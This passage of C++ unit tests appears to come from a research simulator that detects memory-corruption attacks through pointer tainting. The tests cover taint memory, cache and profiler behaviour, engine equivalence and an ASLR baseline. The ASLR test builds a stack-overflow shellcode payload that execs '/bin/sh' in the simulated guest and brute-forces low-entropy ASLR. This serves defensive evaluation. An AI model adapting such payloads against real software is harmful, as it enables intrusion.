  RegisterFile rf;
  rf.set(0, TaintedWord{0x1234, kAllTainted});
  EXPECT_EQ(rf.get(0).value, 0u);
  EXPECT_EQ(rf.get(0).taint, kUntainted);
}

TEST(RegisterFileTaint, SetGetAndUntaint) {
  RegisterFile rf;
  rf.set(21, TaintedWord{0x1002bc20, kAllTainted});
  EXPECT_TRUE(rf.get(21).tainted());
  EXPECT_EQ(rf.tainted_reg_count(), 1);
  rf.untaint(21);
  EXPECT_FALSE(rf.get(21).tainted());
  EXPECT_EQ(rf.get(21).value, 0x1002bc20u);  // value preserved
}

TEST(Memory, AnyTaintedInAcrossPageBoundary) {
  // The page-summary short-circuit must still see a single tainted byte on
  // either side of a page boundary, for ranges that straddle it.
  TaintedMemory m;
  const uint32_t boundary = 0x10000000 + TaintedMemory::kPageSize;
  m.store_byte(boundary - 1, {0xaa, true});  // last byte of page 0
  EXPECT_TRUE(m.any_tainted_in(boundary - 4, 8));
  EXPECT_TRUE(m.any_tainted_in(boundary - 1, 1));
  EXPECT_FALSE(m.any_tainted_in(boundary, 8));  // page 1 is clean
  m.set_taint(boundary - 1, 1, false);
  m.store_byte(boundary, {0xbb, true});  // first byte of page 1
  EXPECT_TRUE(m.any_tainted_in(boundary - 4, 8));
  EXPECT_FALSE(m.any_tainted_in(boundary - 4, 4));
  // Zero-length and unmapped ranges are never tainted.
  EXPECT_FALSE(m.any_tainted_in(boundary, 0));
  EXPECT_FALSE(m.any_tainted_in(0x60000000, 64));
}

TEST(Memory, PageSummariesTrackEveryMutation) {
  TaintedMemory m;
  const uint32_t a = 0x10000000;
  EXPECT_EQ(m.tainted_byte_count(), 0u);
  EXPECT_EQ(m.tainted_page_count(), 0u);

  m.store_word(a, TaintedWord{0x01020304, 0b1111});
  EXPECT_EQ(m.tainted_byte_count(), 4u);
  EXPECT_EQ(m.tainted_page_count(), 1u);
  EXPECT_FALSE(m.page_fully_untainted(a));

  // Overwriting with a partially-tainted word adjusts, not double-counts.
  m.store_word(a, TaintedWord{0x01020304, 0b0011});
  EXPECT_EQ(m.tainted_byte_count(), 2u);

  // A second page joins and leaves the tainted-page rollup independently.
  const uint32_t b = a + 3 * TaintedMemory::kPageSize;
  m.set_taint(b, 16, true);
  EXPECT_EQ(m.tainted_byte_count(), 18u);
  EXPECT_EQ(m.tainted_page_count(), 2u);
  m.set_taint(b, 16, false);
  EXPECT_EQ(m.tainted_page_count(), 1u);
  EXPECT_TRUE(m.page_fully_untainted(b));

  // Untainting the rest restores the clean-machine summary exactly.
  m.store_word(a, TaintedWord{0x01020304});
  EXPECT_EQ(m.tainted_byte_count(), 0u);
  EXPECT_EQ(m.tainted_page_count(), 0u);
  EXPECT_TRUE(m.page_fully_untainted(a));
}

TEST(Memory, PageSummariesSurviveCopies) {
  // Snapshot/restore deep-copies the memory; the summaries are state, not
  // cache, and must arrive intact (the diagnostic counters reset instead).
  TaintedMemory m;
  m.write_block(0x10000000, std::vector<uint8_t>(10, 0x41), true);
  (void)m.load_word(0x10000000);
  TaintedMemory copy = m;
  EXPECT_EQ(copy.tainted_byte_count(), 10u);
  EXPECT_EQ(copy.tainted_page_count(), 1u);
  EXPECT_TRUE(copy.any_tainted_in(0x10000004, 2));
  EXPECT_EQ(copy.query_stats().loads, 0u);
}

TEST(RegisterFileTaint, HiLo) {
  RegisterFile rf;
  rf.set_hi(TaintedWord{1, 0x3});
  rf.set_lo(TaintedWord{2, 0x0});
  EXPECT_TRUE(rf.hi().tainted());
  EXPECT_FALSE(rf.lo().tainted());
}

TEST(CacheModel, HitsAfterFirstMiss) {
  Cache c({.size_bytes = 1024, .line_bytes = 32, .ways = 2, .hit_latency = 1,
           .miss_penalty = 10});
  EXPECT_EQ(c.access(0x100, false), 11u);  // cold miss
  EXPECT_EQ(c.access(0x104, false), 1u);   // same line
  EXPECT_EQ(c.stats().hits, 1u);
  EXPECT_EQ(c.stats().misses, 1u);
}

TEST(CacheModel, LruEviction) {
  // 2 sets * 2 ways * 32B lines = 128 bytes; lines mapping to set 0 are
  // multiples of 64.
  Cache c({.size_bytes = 128, .line_bytes = 32, .ways = 2, .hit_latency = 1,
           .miss_penalty = 10});
  c.access(0 * 64, false);   // miss, way 0
  c.access(1 * 64, false);   // miss, way 1
  c.access(0 * 64, false);   // hit, refreshes line 0
  c.access(2 * 64, false);   // miss, evicts line 64 (LRU)
  EXPECT_EQ(c.access(0 * 64, false), 1u);   // still resident
  EXPECT_EQ(c.access(1 * 64, false), 11u);  // was evicted
}

TEST(CacheModel, TaintStorageOverheadIsOneEighth) {
  Cache with({.size_bytes = 32 * 1024, .taint_extension = true});
  Cache without({.size_bytes = 32 * 1024, .taint_extension = false});
  EXPECT_EQ(with.taint_bits() * 8, with.data_bits());
  EXPECT_EQ(without.taint_bits(), 0u);
}

}  // namespace
}  // namespace ptaint::mem
