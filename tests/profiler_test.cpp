// Tests for the per-function profiler.
#include <gtest/gtest.h>

#include "core/machine.hpp"
#include "trace/profiler.hpp"

namespace ptaint::core {
namespace {

TEST(Profiler, AttributesInstructionsToFunctions) {
  Machine m;
  m.load_source(R"(
    .text
_start:
    jal hot
    jal cold
    li $v0, 1
    li $a0, 0
    syscall
hot:
    li $t0, 100
hot_loop:
    addiu $t0, $t0, -1
    bgtz $t0, hot_loop
    jr $ra
cold:
    jr $ra
  )");
  m.enable_profile();
  auto r = m.run();
  ASSERT_TRUE(r.exited_cleanly());
  ASSERT_NE(m.profiler(), nullptr);
  EXPECT_EQ(m.profiler()->total(), r.cpu_stats.instructions);

  auto rows = m.profiler()->hottest();
  ASSERT_FALSE(rows.empty());
  EXPECT_EQ(rows[0].function, "hot");
  // The loop body dominates: 100 iterations of addiu+bgtz, plus li and jr.
  EXPECT_GE(rows[0].instructions, 202u);
  double share_sum = 0;
  for (const auto& row : rows) share_sum += row.share;
  EXPECT_NEAR(share_sum, 1.0, 1e-9);
}

TEST(Profiler, HotListIsBoundedAndSorted) {
  Machine m;
  m.load_source(R"(
    .text
_start:
    jal f1
    jal f2
    jal f3
    li $v0, 1
    li $a0, 0
    syscall
f1: jr $ra
f2: nop
    jr $ra
f3: nop
    nop
    jr $ra
  )");
  m.enable_profile();
  m.run();
  auto rows = m.profiler()->hottest(2);
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_GE(rows[0].instructions, rows[1].instructions);
}

TEST(Profiler, FormatContainsHeaderAndRows) {
  Machine m;
  m.load_source(".text\n_start: li $v0, 1\nli $a0, 0\nsyscall\n");
  m.enable_profile();
  m.run();
  const std::string table = m.profiler()->format();
  EXPECT_NE(table.find("function"), std::string::npos);
  EXPECT_NE(table.find("_start"), std::string::npos);
}

}  // namespace
}  // namespace ptaint::core
