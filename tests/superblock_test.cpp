// Cross-engine identity: step vs superblock vs jit.
//
// The superblock and jit engines are pure performance substitutions:
// translated blocks (interpreted or compiled to host code) must leave the
// machine in exactly the state the step interpreter would — registers,
// taint bits and address-provenance planes, stop reason, alerts, and every
// CpuStats / TaintUnit counter.  These tests pin that contract three ways
// on the attack corpus, on self-modifying code that rewrites a block while
// it is executing (which for the jit also invalidates compiled host code),
// and across snapshot/restore boundaries that fall between (and inside)
// superblocks.  On hosts that cannot run emitted code the "jit" rows
// silently exercise the superblock fallback, which must be just as
// identical.
#include <gtest/gtest.h>

#include <cstdlib>
#include <sstream>
#include <string>
#include <vector>

#include "core/attack.hpp"
#include "core/machine.hpp"
#include "cpu/jit/jit_engine.hpp"
#include "core/spec_workloads.hpp"
#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"
#include "isa/isa.hpp"

namespace ptaint::core {
namespace {

/// Pins PTAINT_ENGINE for a scope, so machines built by scenario factories
/// (which construct their own MachineConfig) resolve to a chosen engine.
class ScopedEngine {
 public:
  explicit ScopedEngine(const char* value) {
    if (const char* old = std::getenv("PTAINT_ENGINE")) saved_ = old;
    ::setenv("PTAINT_ENGINE", value, 1);
  }
  ~ScopedEngine() {
    if (!saved_.empty()) {
      ::setenv("PTAINT_ENGINE", saved_.c_str(), 1);
    } else {
      ::unsetenv("PTAINT_ENGINE");
    }
  }
  ScopedEngine(const ScopedEngine&) = delete;
  ScopedEngine& operator=(const ScopedEngine&) = delete;

 private:
  std::string saved_;
};

/// Every execution engine, reference interpreter first.
constexpr const char* kAllEngines[] = {"step", "superblock", "jit"};
constexpr int kNumEngines = 3;

/// Full architectural fingerprint: run report, every stats counter, and the
/// complete register file with taint bits.  Two engines agreeing on this
/// string agree on everything a campaign (or a guest) can observe.
std::string fingerprint(Machine& m, const RunReport& r) {
  std::ostringstream ss;
  ss << "stop=" << static_cast<int>(r.stop) << " exit=" << r.exit_status
     << " alert=" << (r.alert ? r.alert_line() : "-")
     << " alert_fn=" << r.alert_function << " fault=" << r.fault
     << " stdout=[" << r.stdout_text << "] stderr=[" << r.stderr_text << "]";
  const cpu::CpuStats& c = r.cpu_stats;
  ss << " inst=" << c.instructions << " alu=" << c.alu_ops
     << " loads=" << c.loads << " stores=" << c.stores
     << " br=" << c.branches << " taken=" << c.taken_branches
     << " jumps=" << c.jumps << " sys=" << c.syscalls
     << " tload=" << c.tainted_loads << " tstore=" << c.tainted_stores
     << " cuntaint=" << c.compare_untaints;
  const cpu::TaintUnit::Stats& t = r.taint_stats;
  ss << " evals=" << t.evaluations << " tevals=" << t.tainted_evaluations
     << " tu_cmp=" << t.compare_untaints << " tu_and=" << t.and_zero_untaints
     << " tu_xor=" << t.xor_self_untaints;
  ss << " tmem=" << r.tainted_memory_bytes;
  ss << " pc=" << std::hex << m.cpu().pc();
  for (int i = 0; i < 32; ++i) {
    const mem::TaintedWord w =
        m.cpu().regs().get(static_cast<uint8_t>(i));
    ss << " r" << std::dec << i << "=" << std::hex << w.value << "/"
       << static_cast<int>(w.taint);
  }
  return ss.str();
}

std::string run_scenario(AttackId id, const char* engine) {
  ScopedEngine pin(engine);
  auto scenario = make_scenario(id);
  auto machine = scenario->prepare_attack({});
  RunReport r = machine->run();
  return fingerprint(*machine, r);
}

TEST(Superblock, AttackCorpusIdenticalAcrossAllEngines) {
  // Every scenario in the corpus, detected and escaped alike, must end in
  // the same architectural state under all three engines.
  for (const auto& scenario : make_attack_corpus()) {
    const std::string step = run_scenario(scenario->id(), "step");
    for (int e = 1; e < kNumEngines; ++e) {
      EXPECT_EQ(step, run_scenario(scenario->id(), kAllEngines[e]))
          << kAllEngines[e] << " divergence in " << scenario->name();
    }
  }
}

TEST(Superblock, BenignSpecSurrogateIdenticalAcrossAllEngines) {
  for (const SpecWorkload& w : make_spec_workloads(1)) {
    std::string prints[kNumEngines];
    for (int e = 0; e < kNumEngines; ++e) {
      ScopedEngine pin(kAllEngines[e]);
      auto machine = prepare_spec_workload(w);
      RunReport r = machine->run();
      prints[e] = fingerprint(*machine, r);
    }
    for (int e = 1; e < kNumEngines; ++e) {
      EXPECT_EQ(prints[0], prints[e])
          << kAllEngines[e] << " divergence in spec workload " << w.name;
    }
  }
}

// ---------------------------------------------------------------------------
// Address-provenance parity: the leak->overwrite scenarios exercise the
// second taint direction (stack/heap/text planes seeded at $sp, SYS_BRK and
// jal, checked at kernel output).  Both engines must agree on the planes
// byte-for-byte — in every register, across the guest's address space, and
// in the policy-gated leak alert itself.

/// FNV-1a over the address-plane nibbles of every mapped word in [lo, hi).
uint64_t addr_plane_hash(Machine& m, uint32_t lo, uint32_t hi) {
  uint64_t h = 1469598103934665603ull;
  for (uint32_t a = lo; a < hi; a += 4) {
    const mem::TaintBits planes = m.memory().load_word(a).taint & mem::kAddrMask;
    if (!planes) continue;
    h ^= (static_cast<uint64_t>(a) << 16) | planes;
    h *= 1099511628211ull;
  }
  return h;
}

TEST(Superblock, LeakScenariosIdenticalUnderLeakDetection) {
  cpu::TaintPolicy leak;  // paper rules + the address-leak direction
  leak.leak_detection = true;
  for (AttackId id : {AttackId::kLeakTelemetry, AttackId::kLeakSession,
                      AttackId::kLeakBanner}) {
    std::string prints[kNumEngines];
    for (int e = 0; e < kNumEngines; ++e) {
      ScopedEngine pin(kAllEngines[e]);
      auto machine = make_scenario(id)->prepare_attack(leak);
      RunReport r = machine->run();
      ASSERT_TRUE(r.detected()) << kAllEngines[e];
      EXPECT_EQ(r.alert->kind, cpu::AlertKind::kAddressLeak) << kAllEngines[e];
      std::ostringstream ss;
      ss << fingerprint(*machine, r) << " aph_data="
         << addr_plane_hash(*machine, 0x10000000u, 0x10020000u)
         << " aph_stack="
         << addr_plane_hash(*machine, 0x7ffe0000u, 0x80000000u);
      prints[e] = ss.str();
    }
    for (int e = 1; e < kNumEngines; ++e) {
      EXPECT_EQ(prints[0], prints[e])
          << kAllEngines[e] << " divergence in leak scenario "
          << static_cast<int>(id);
    }
  }
}

TEST(Superblock, BenignLeakAppSessionsIdenticalWithPlanes) {
  // The benign twins run the same plane propagation without ever reaching
  // the alert; the full plane image must still match across engines.
  struct Row {
    asmgen::Source (*app)();
    std::vector<std::string> session;
  };
  const Row rows[] = {
      {&guest::apps::leak_telemetry, {"STAT", "QUIT"}},
      {&guest::apps::leak_session, {"HELO", "QUIT"}},
      {&guest::apps::leak_banner, {"hello from client", "status check"}},
  };
  for (const Row& row : rows) {
    std::string prints[kNumEngines];
    for (int e = 0; e < kNumEngines; ++e) {
      ScopedEngine pin(kAllEngines[e]);
      MachineConfig cfg;
      cfg.policy.leak_detection = true;
      Machine m(cfg);
      m.load_sources(guest::link_with_runtime(row.app()));
      m.os().net().add_session(row.session);
      RunReport r = m.run();
      EXPECT_TRUE(r.exited_cleanly()) << kAllEngines[e] << ": " << r.fault;
      std::ostringstream ss;
      ss << fingerprint(m, r) << " aph_data="
         << addr_plane_hash(m, 0x10000000u, 0x10020000u) << " aph_stack="
         << addr_plane_hash(m, 0x7ffe0000u, 0x80000000u);
      prints[e] = ss.str();
    }
    for (int e = 1; e < kNumEngines; ++e) {
      EXPECT_EQ(prints[0], prints[e])
          << kAllEngines[e] << " divergence in benign session";
    }
  }
}

// ---------------------------------------------------------------------------
// Self-modifying code: a store that rewrites an instruction *later in the
// currently-executing superblock* must retire the block immediately; the
// patched instruction executes with its new semantics, exactly as the step
// interpreter (whose decode-cache invalidation is per-instruction) behaves.

std::string smc_same_block_source() {
  // Patch `site` (li $a0, 0 == addiu $a0, $zero, 0) into addiu $a0, $zero,
  // 42 two instructions before it executes, in the same straight-line run.
  isa::Instruction patched;
  patched.op = isa::Op::kAddiu;
  patched.rt = isa::kA0;
  patched.rs = 0;
  patched.imm = 42;
  return R"(
      .text
  _start:
      la $t0, site
      li $t1, )" + std::to_string(isa::encode(patched)) + R"(
      sw $t1, 0($t0)
  site:
      li $a0, 0
      li $v0, 1
      syscall
)";
}

TEST(Superblock, SmcPatchInsideExecutingBlockTakesEffect) {
  for (const char* engine : kAllEngines) {
    ScopedEngine pin(engine);
    Machine m;
    m.load_source(smc_same_block_source());
    RunReport r = m.run();
    EXPECT_EQ(r.stop, cpu::StopReason::kExit) << engine;
    EXPECT_EQ(r.exit_status, 42) << engine;  // stale block would exit 0
  }
}

TEST(Superblock, SmcInvalidatesHotSuperblockMidLoop) {
  // The loop body executes 50 times (hot, cached), then the guest rewrites
  // its own increment from +1 to +2 for the remaining 50 iterations.  A
  // stale cached block would keep adding 1 and exit with 100, not 150.
  isa::Instruction add2;
  add2.op = isa::Op::kAddiu;
  add2.rt = isa::kS0;
  add2.rs = isa::kS0;
  add2.imm = 2;
  const std::string source = R"(
      .text
  _start:
      li $s0, 0          # accumulator
      li $t0, 0          # iteration counter
      li $t4, 50         # patch trigger
      li $t5, 100        # loop bound
      la $t2, site
      li $t3, )" + std::to_string(isa::encode(add2)) + R"(
  loop:
  site:
      addiu $s0, $s0, 1
      addiu $t0, $t0, 1
      bne $t0, $t4, skip
      sw $t3, 0($t2)     # iteration 50: patch the increment
  skip:
      bne $t0, $t5, loop
      addu $a0, $s0, $zero
      li $v0, 1
      syscall
)";
  std::string prints[kNumEngines];
  for (int e = 0; e < kNumEngines; ++e) {
    ScopedEngine pin(kAllEngines[e]);
    Machine m;
    m.load_source(source);
    RunReport r = m.run();
    EXPECT_EQ(r.stop, cpu::StopReason::kExit) << kAllEngines[e];
    EXPECT_EQ(r.exit_status, 150) << kAllEngines[e];
    // Under the jit the loop is hot enough to compile before the patch, so
    // the store must also retire the compiled host code.
    prints[e] = fingerprint(m, r);
  }
  for (int e = 1; e < kNumEngines; ++e) EXPECT_EQ(prints[0], prints[e]);
}

// ---------------------------------------------------------------------------
// Snapshot/restore interacting with the block cache: restoring flushes
// translations (the restored image may differ), and a snapshot taken between
// run_for() slices — whose boundaries fall inside superblocks — must resume
// to the same final state as an uninterrupted run and as the step engine.

TEST(Superblock, SnapshotRestoreBetweenSuperblocksMatchesUninterrupted) {
  auto scenario = make_scenario(AttackId::kExp1Stack);

  ScopedEngine pin("superblock");
  // Uninterrupted superblock run.
  auto whole = scenario->prepare_attack({});
  RunReport rw = whole->run();

  // Sliced run: odd run_for() budgets force stops inside superblocks; a
  // snapshot taken at one of those points restores into a fresh machine.
  auto sliced = scenario->prepare_attack({});
  sliced->run_for(37);
  sliced->run_for(101);
  MachineSnapshot snap = sliced->snapshot();

  Machine resumed;
  resumed.restore(snap);
  RunReport rr = resumed.run();
  EXPECT_EQ(fingerprint(*whole, rw), fingerprint(resumed, rr));

  // And the step and jit engines agree with all of the above.
  const std::string step = run_scenario(AttackId::kExp1Stack, "step");
  EXPECT_EQ(step, fingerprint(*whole, rw));
  EXPECT_EQ(step, run_scenario(AttackId::kExp1Stack, "jit"));
}

TEST(Superblock, JitSnapshotRestoreBetweenSlicesMatchesUninterrupted) {
  // Same shape as above, but the sliced run executes under the jit: the
  // snapshot boundary falls while compiled host code is resident, and the
  // restore path must flush translations and host code together.
  auto scenario = make_scenario(AttackId::kExp1Stack);

  ScopedEngine pin("jit");
  auto whole = scenario->prepare_attack({});
  RunReport rw = whole->run();

  auto sliced = scenario->prepare_attack({});
  sliced->run_for(37);
  sliced->run_for(2000);  // deep enough that hot blocks compiled
  MachineSnapshot snap = sliced->snapshot();

  Machine resumed;
  resumed.restore(snap);
  RunReport rr = resumed.run();
  EXPECT_EQ(fingerprint(*whole, rw), fingerprint(resumed, rr));
}

TEST(Superblock, RunForBudgetIsExactMidBlock) {
  // advance(n) must retire exactly n instructions even when n lands in the
  // middle of a translated block — the campaign executor debits budgets
  // unconditionally, so over-retirement would skew every time slice.
  const std::string source = R"(
      .text
  _start:
      li $t0, 0
  loop:
      addiu $t0, $t0, 1
      addiu $t1, $t0, 7
      xor $t2, $t1, $t0
      j loop
)";
  for (const char* engine : kAllEngines) {
    ScopedEngine pin(engine);
    Machine m;
    m.load_source(source);
    m.run_for(1000);
    EXPECT_EQ(m.report().cpu_stats.instructions, 1000u) << engine;
    m.run_for(1);
    EXPECT_EQ(m.report().cpu_stats.instructions, 1001u) << engine;
  }
}

// ---------------------------------------------------------------------------
// Unsupported-host fallback: requesting the jit on a host that cannot run
// emitted code must silently select the superblock engine (after a one-line
// warning) with identical results.  PTAINT_JIT_FORCE_UNSUPPORTED simulates
// such a host anywhere.

TEST(Superblock, JitFallsBackToSuperblockWhenUnsupported) {
  ::setenv("PTAINT_JIT_FORCE_UNSUPPORTED", "1", 1);
  EXPECT_FALSE(cpu::JitEngine::supported());
  std::string forced;
  {
    ScopedEngine pin("jit");
    auto machine = make_scenario(AttackId::kExp1Stack)->prepare_attack({});
    EXPECT_EQ(machine->cpu().engine(), cpu::Engine::kSuperblock);
    RunReport r = machine->run();
    EXPECT_EQ(machine->cpu().jit_stats().blocks_compiled, 0u);
    forced = fingerprint(*machine, r);
  }
  ::unsetenv("PTAINT_JIT_FORCE_UNSUPPORTED");
  EXPECT_EQ(forced, run_scenario(AttackId::kExp1Stack, "superblock"));
}

}  // namespace
}  // namespace ptaint::core
