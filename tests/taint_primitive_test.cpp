// Tests for the kernel tainting primitives (the paper's §4.4 RT-register
// mechanism, exposed as TAINTSET/TAINTCLR for kernel-style guest code),
// plus a dual-run equivalence property: taint tracking must never change
// architectural values, only taint bits.
#include <gtest/gtest.h>

#include <random>

#include "core/machine.hpp"

namespace ptaint::core {
namespace {

using cpu::StopReason;

TEST(TaintPrimitives, TaintSetMakesPointerMalicious) {
  // No I/O at all: a guest-kernel-style instruction taints a value, and
  // dereferencing it trips the detector.
  Machine m;
  m.load_source(R"(
    .text
_start:
    li $t0, 0x10000000
    taintset $t1, $t0    # same value, all taint bits set
    lw $t2, 0($t1)       # alert
    li $v0, 1
    li $a0, 0
    syscall
  )");
  auto r = m.run();
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->reg_value, 0x10000000u);
  EXPECT_EQ(r.alert->taint, mem::kAllTainted);
}

TEST(TaintPrimitives, TaintClrLaunders) {
  Machine m;
  m.load_source(R"(
    .data
buf: .space 8
    .text
_start:
    li $v0, 3
    li $a0, 0
    la $a1, buf
    li $a2, 4
    syscall
    lw $t0, buf          # tainted input word
    taintclr $t1, $t0    # kernel-style untaint (e.g. after validation)
    li $t2, 0x0fffffff
    and $t1, $t1, $t2    # keep it in mappable range
    lw $t3, 0($t1)       # no alert: taint cleared
    li $v0, 1
    li $a0, 0
    syscall
  )");
  m.os().set_stdin("\x10\x10\x10\x10");
  auto r = m.run();
  EXPECT_EQ(r.stop, StopReason::kExit) << r.alert_line();
}

TEST(TaintPrimitives, RoundTripThroughMemory) {
  Machine m;
  m.load_source(R"(
    .data
    .align 2
cell: .word 0
    .text
_start:
    li $t0, 1234
    taintset $t1, $t0
    sw $t1, cell         # taint travels to memory
    lw $t2, cell         # and back
    jr $t2               # alert: tainted jump target
  )");
  auto r = m.run();
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, cpu::AlertKind::kTaintedJumpTarget);
  EXPECT_EQ(r.alert->reg_value, 1234u);
}

// Property: running the same program with taint tracking on and off yields
// identical architectural state (register values, memory contents, exit
// status) when no detector fires — taint is metadata only.
TEST(DualRunEquivalence, RandomAluProgramsMatch) {
  std::mt19937 rng(424242);
  for (int round = 0; round < 20; ++round) {
    // Build a random straight-line ALU program over $t0..$t7 seeded from
    // tainted input, ending with an exit whose status folds the registers.
    std::string src = R"(
    .data
buf: .space 16
    .text
_start:
    li $v0, 3
    li $a0, 0
    la $a1, buf
    li $a2, 16
    syscall
    lw $t0, buf
    lw $t1, buf+4
    lw $t2, buf+8
    lw $t3, buf+12
    li $t4, 0x1234
    li $t5, -77
    li $t6, 3
    li $t7, 0x7fffffff
)";
    static constexpr const char* kOps[] = {"addu", "subu", "and", "or",
                                           "xor", "nor", "slt", "sltu"};
    for (int i = 0; i < 40; ++i) {
      const int rd = 8 + static_cast<int>(rng() % 8);
      const int ra = 8 + static_cast<int>(rng() % 8);
      const int rb = 8 + static_cast<int>(rng() % 8);
      char line[64];
      std::snprintf(line, sizeof line, "    %s $%d, $%d, $%d\n",
                    kOps[rng() % std::size(kOps)], rd, ra, rb);
      src += line;
    }
    src += R"(
    xor $a0, $t0, $t1
    xor $a0, $a0, $t2
    xor $a0, $a0, $t3
    xor $a0, $a0, $t4
    xor $a0, $a0, $t5
    xor $a0, $a0, $t6
    xor $a0, $a0, $t7
    li $v0, 1
    syscall
)";
    const std::string input = "0123456789abcdef";

    MachineConfig on_cfg;
    Machine on(on_cfg);
    on.load_source(src);
    on.os().set_stdin(input);
    auto r_on = on.run();

    MachineConfig off_cfg;
    off_cfg.policy.mode = cpu::DetectionMode::kOff;
    Machine off(off_cfg);
    off.load_source(src);
    off.os().set_taint_inputs(false);
    off.os().set_stdin(input);
    auto r_off = off.run();

    ASSERT_EQ(r_on.stop, StopReason::kExit) << src;
    ASSERT_EQ(r_off.stop, StopReason::kExit);
    EXPECT_EQ(r_on.exit_status, r_off.exit_status) << src;
    EXPECT_EQ(r_on.cpu_stats.instructions, r_off.cpu_stats.instructions);
    for (int reg = 0; reg < isa::kNumRegs; ++reg) {
      EXPECT_EQ(on.cpu().regs().get(reg).value,
                off.cpu().regs().get(reg).value)
          << "register $" << reg << "\n" << src;
    }
  }
}

}  // namespace
}  // namespace ptaint::core
