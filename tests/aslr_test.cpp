// Tests for the stack-ASLR baseline (paper §2 related work): randomization
// breaks address-hardcoding attacks probabilistically, but low entropy is
// brute-forceable — the limitation the paper cites when motivating a
// deterministic architectural defense.
#include <gtest/gtest.h>

#include <set>

#include "core/machine.hpp"
#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"
#include "isa/isa.hpp"

namespace ptaint::core {
namespace {

using cpu::DetectionMode;
using cpu::StopReason;

// The exp1 shellcode payload for the UNRANDOMIZED layout (see
// attack.cpp's exp1_shellcode_scenario).
std::string fixed_layout_shellcode_payload() {
  const uint32_t exp1_sp = isa::layout::kStackTop - 64;
  const uint32_t code_addr = exp1_sp + 16 + 24;
  auto le = [](uint32_t v) {
    std::string s(4, '\0');
    for (int i = 0; i < 4; ++i) s[i] = static_cast<char>(v >> (8 * i));
    return s;
  };
  auto enc = [&](isa::Op op, uint8_t rt, uint8_t rs, int32_t imm) {
    isa::Instruction in;
    in.op = op;
    in.rt = rt;
    in.rs = rs;
    in.imm = imm;
    return le(isa::encode(in));
  };
  const uint32_t str_addr = code_addr + 7 * 4;
  std::string payload(20, 'a');
  payload += le(code_addr);
  payload += enc(isa::Op::kLui, isa::kA0, 0,
                 static_cast<int32_t>(str_addr >> 16));
  payload += enc(isa::Op::kOri, isa::kA0, isa::kA0,
                 static_cast<int32_t>(str_addr & 0xffff));
  payload += enc(isa::Op::kAddiu, isa::kV0, isa::kZero, 59);
  isa::Instruction sys;
  sys.op = isa::Op::kSyscall;
  payload += le(isa::encode(sys));
  payload += enc(isa::Op::kAddiu, isa::kA0, isa::kZero, 0);
  payload += enc(isa::Op::kAddiu, isa::kV0, isa::kZero, 1);
  payload += le(isa::encode(sys));
  payload += "/bin/sh";
  payload.push_back('\0');
  return payload;
}

bool attack_succeeds(int entropy_bits, uint32_t seed) {
  MachineConfig cfg;
  cfg.policy.mode = DetectionMode::kOff;  // ASLR alone, no detector
  cfg.aslr_entropy_bits = entropy_bits;
  cfg.aslr_seed = seed;
  cfg.max_instructions = 5'000'000;
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::exp1_stack()));
  m.os().set_stdin(fixed_layout_shellcode_payload());
  m.run();
  for (const auto& path : m.os().exec_log()) {
    if (path == "/bin/sh") return true;
  }
  return false;
}

TEST(Aslr, OffsetIsDeterministicAlignedAndBounded) {
  MachineConfig cfg;
  cfg.aslr_entropy_bits = 12;
  std::set<uint32_t> seen;
  for (uint32_t seed = 0; seed < 32; ++seed) {
    cfg.aslr_seed = seed;
    Machine a(cfg), b(cfg);
    EXPECT_EQ(a.aslr_offset(), b.aslr_offset());
    EXPECT_EQ(a.aslr_offset() % 4, 0u);
    EXPECT_LT(a.aslr_offset(), 1u << 12);
    seen.insert(a.aslr_offset());
  }
  EXPECT_GT(seen.size(), 16u);  // the offsets actually vary
}

TEST(Aslr, DisabledMeansZeroOffset) {
  Machine m;
  EXPECT_EQ(m.aslr_offset(), 0u);
}

TEST(Aslr, BenignProgramsUnaffected) {
  MachineConfig cfg;
  cfg.aslr_entropy_bits = 16;
  cfg.aslr_seed = 7;
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::exp1_stack()));
  m.os().set_stdin("hi");
  auto r = m.run();
  EXPECT_EQ(r.stop, StopReason::kExit);
  EXPECT_EQ(r.exit_status, 0);
}

TEST(Aslr, BreaksHardcodedShellcodeAddress) {
  // Sanity: with no randomization the payload lands.
  ASSERT_TRUE(attack_succeeds(0, 0));
  // With entropy, a seed whose offset is nonzero defeats the hardcoded
  // address.
  MachineConfig probe;
  probe.aslr_entropy_bits = 12;
  int defeated = 0;
  for (uint32_t seed = 1; seed <= 6; ++seed) {
    probe.aslr_seed = seed;
    Machine m(probe);
    if (m.aslr_offset() == 0) continue;
    if (!attack_succeeds(12, seed)) ++defeated;
  }
  EXPECT_GT(defeated, 0);
}

TEST(Aslr, LowEntropyIsBruteForceable) {
  // The paper's §2 point: 2^k guesses suffice.  With 4 bits, re-trying the
  // same payload against re-randomized instances succeeds quickly.
  int attempts = 0;
  bool success = false;
  for (uint32_t seed = 0; seed < 200 && !success; ++seed) {
    ++attempts;
    success = attack_succeeds(4, seed);
  }
  EXPECT_TRUE(success) << "no seed produced offset 0 in 200 tries";
  // Geometric with p = 1/16: overwhelmingly within 200.
  EXPECT_LE(attempts, 200);
}

TEST(Aslr, PointerTaintDetectsRegardlessOfLayout) {
  // The architectural defense is deterministic: any seed, same alert.
  for (uint32_t seed : {0u, 3u, 9u}) {
    MachineConfig cfg;
    cfg.aslr_entropy_bits = 12;
    cfg.aslr_seed = seed;
    Machine m(cfg);
    m.load_sources(guest::link_with_runtime(guest::apps::exp1_stack()));
    m.os().set_stdin(fixed_layout_shellcode_payload());
    auto r = m.run();
    EXPECT_TRUE(r.detected()) << "seed " << seed;
  }
}

}  // namespace
}  // namespace ptaint::core
