// Tests for the memory-aware value-set taint prover (src/analysis/vsa.cpp):
// frame-cell precision the register-only analyzer lacks, syscall buffer
// modeling, witness traces, the gen-2 elision table's strict-superset
// contract, static/dynamic Table 1 rule parity per policy column, and
// byte-identical determinism across repeat runs.
#include <gtest/gtest.h>

#include <cstdlib>
#include <stdexcept>
#include <string>
#include <vector>

#include "analysis/cfg.hpp"
#include "analysis/taint_analyzer.hpp"
#include "analysis/vsa.hpp"
#include "campaign/campaigns.hpp"
#include "core/attack.hpp"
#include "core/machine.hpp"
#include "cpu/taint_unit.hpp"
#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

namespace ptaint::analysis {
namespace {

using isa::Op;

